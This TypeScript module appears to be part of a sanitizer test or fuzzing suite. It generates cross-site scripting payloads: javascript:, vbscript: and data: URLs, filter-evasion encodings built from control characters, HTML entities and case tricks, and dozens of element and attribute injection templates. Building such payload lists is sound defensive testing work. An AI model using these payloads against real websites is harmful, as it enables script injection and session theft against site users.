import type { Trick } from './payload-list.js';

const javascript: Trick = (call) => `javascript:${call}`;

/** Other addresses that run code, or access the reader's machine. */
const OTHERS: readonly Trick[] = [
  (call) => `vbscript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `data:text/javascript,${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `blob:javascript:${call}`,
  (call) => `filesystem:javascript:${call}`,
  (call) => `file:///${call}`,
];

type Writing = (address: string) => string;

/** Obfuscated schemes in raw characters, which browsers drop or ignore. */
const RAW_WRITINGS: readonly Writing[] = [
  (address) => address,
  (address) => address.replace(/^[a-z]+/, (scheme) => scheme.toUpperCase()),
  (address) => address.replace(/[aeiou]/g, (letter) => letter.toUpperCase()),
  (address) => `   ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u001f \u0002${address}`,
  (address) => address.replace(':', '\t:'),
  (address) => `${address[0]}\n${address.slice(1)}`,
  (address) => `${address[0]}\r\n\t${address.slice(1)}`,
  (address) => `\u00a0${address}`,
  (address) => `${address[0]}\u0000${address.slice(1)}`,
  (address) => `${address[0]}\u00ad${address.slice(1)}`,
  (address) => address.replace(':', '：'),
  (address) => address.replace(':', '://%0a'),
  (address) => `//a\\@${address}`,
];

const numeric = (character: string, write: (code: number) => string): string => write(character.codePointAt(0) ?? 0);

/** Obfuscations that HTML and Markdown decode. */
const ENTITY_WRITINGS: readonly Writing[] = [
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#0000058'),
  (address) => address.replace(/^./, (first) => numeric(first, (code) => `&#x${code.toString(16)};`)),
  (address) => address.replace(/^[a-z]+/, (s) => [...s].map((c) => numeric(c, (code) => `&#${code}`)).join('')),
  (address) => `${address[0]}&Tab;${address.slice(1)}`,
  (address) => `${address[0]}&NewLine;${address.slice(1)}`,
  (address) => `&#1;${address}`,
  (address) => `&#x20;&#9;${address}`,
  (address) => address.replace(':', '&amp;colon;'),
  (address) => address.replace(':', '%3a'),
  (address) => address.replace(':', '\\:'),
];

const written =
  (writing: Writing, address: Trick): Trick =>
  (call) =>
    writing(address(call));

/** Addresses for places that are read without decoding, such as front matter. */
export const RAW_ADDRESS_TRICKS: readonly Trick[] = [
  ...RAW_WRITINGS.map((writing) => written(writing, javascript)),
  ...OTHERS,
];

/** `javascript:` in every obfuscation, and every other address as is and in capitals. */
export const ADDRESS_TRICKS: readonly Trick[] = [
  ...RAW_ADDRESS_TRICKS,
  ...ENTITY_WRITINGS.map((writing) => written(writing, javascript)),
  ...OTHERS.map((address) => written((text) => text.replace(/^[^:]+/, (scheme) => scheme.toUpperCase()), address)),
];

/** True if a browser reads the address as one with another scheme than its page's. */
export function hasScheme(address: string): boolean {
  const page = 'https://page.example/a/';
  return URL.canParse(address, page) && !/^https?:$/.test(new URL(address, page).protocol);
}

/** Attributes with an address, by element. */
const ATTRIBUTES = `
  a:href a:xlink:href a:ping a:action area:href base:href applet:code applet:archive audio:src bgsound:src blockquote:cite body:background
  button:formaction command:icon del:cite embed:src form:action form:xlink:href frame:src head:profile html:manifest iframe:src iframe:srcdoc iframe:longdesc
  image:src image:href img:src img:srcset img:lowsrc img:dynsrc img:longdesc img:usemap img:xlink:href input:src input:formaction ins:cite isindex:action
  layer:src link:href menuitem:icon object:data object:classid object:codebase param:value portal:src q:cite script:src source:src source:srcset
  table:background td:background th:background track:src video:src video:poster xml:src b:href b:src div:href p:action details:href
`;

/** Each attribute with an address, in three ways of writing. */
export function attributeTricks(): readonly Trick[] {
  return ATTRIBUTES.trim()
    .split(/\s+/)
    .flatMap((pair, n) => {
      const [element = '', ...attribute] = pair.split(':');
      const entities = ENTITY_WRITINGS[n % ENTITY_WRITINGS.length] ?? String;
      const other = OTHERS[n % OTHERS.length] ?? javascript;
      return [javascript, written(entities, javascript), other].map(
        (address): Trick =>
          (call) =>
            `<${element} ${attribute.join(':')}='${address(call)}'>a</${element}>`,
      );
    });
}
